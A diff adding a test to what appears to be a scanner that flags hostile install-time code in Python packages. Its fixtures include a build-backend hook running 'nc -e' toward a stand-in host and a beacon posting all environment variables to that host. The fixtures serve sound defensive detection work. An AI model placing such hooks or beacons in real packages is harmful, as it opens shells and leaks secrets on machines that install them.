@@ -93,6 +93,24 @@ test("code that runs and is past our limits counts as not seen, what Python refu
   expect(await scan(module_("print 'Python 2'"), "wheel")).toMatchObject({ unseen: 0 });
 });
 
+test("what setup.py only names is installation by its own text, a hook of a backend by its name", async () => {
+  const client =
+    "import socket\nclass C:\n    def go(self):\n        socket.create_connection(('host.invalid', 1))\n";
+  const reads = "open('client.py').read()";
+  const hook = "import os\ndef build_wheel(*a):\n    os.system('nc -e x host.invalid')";
+
+  expect(await alarms({ "sample-1.0/setup.py": reads, "sample-1.0/client.py": client })).toEqual(
+    [],
+  );
+  expect(
+    await alarms({
+      "sample-1.0/pyproject.toml":
+        '[build-system]\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+      "sample-1.0/backend.py": hook,
+    }),
+  ).toContain("block install TH105");
+});
+
 test("in folders that nothing can import, code runs only where the installation names it", async () => {
   const beacon =
     "import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))";
